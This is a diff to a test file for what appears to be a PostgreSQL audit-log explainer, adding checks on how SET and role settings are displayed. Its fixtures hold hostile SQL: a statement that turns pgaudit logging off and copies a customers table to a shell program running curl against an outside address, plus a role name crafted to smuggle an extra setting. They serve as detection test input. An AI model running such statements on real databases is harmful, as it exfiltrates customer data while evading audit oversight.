@@ -184,10 +184,15 @@ kinds                 VariableSetStmt
 setting_name          pgaudit.log
 setting_value         none
 setting_scope         session
+settings              pgaudit.log = 'none' (session)
 statement_count       1
 `,
   );
   assert.match(await explained("SET search_path = ''"), /^setting_value {9}''$/m);
+  assert.match(
+    await explained("SET ROLE \"a' (session), b = 'c\"; SELECT set_config('role', $1, true)"),
+    /^settings {14}role = 'a'' \(session\), b = ''c' \(session\), role = \? \(local\)$/m,
+  );
 });
 
 test('an injection is shown with what it reads and how it is built', async () => {
@@ -215,7 +220,7 @@ test('grants are shown with roles and grantees, pgaudit’s own cut as what it i
 });
 
 test('JSON holds what the store holds of the same statement, under the names of the views', async () => {
-  const sql = "SET pgaudit.log = 'none'; COPY customers TO PROGRAM 'curl http://203.0.113.9'";
+  const sql = "SET pgaudit.log = 'none'; SET ROLE a; COPY customers TO PROGRAM 'curl http://203.0.113.9'";
   const line = record({
     second: 0,
     session: '6968baa0.100',
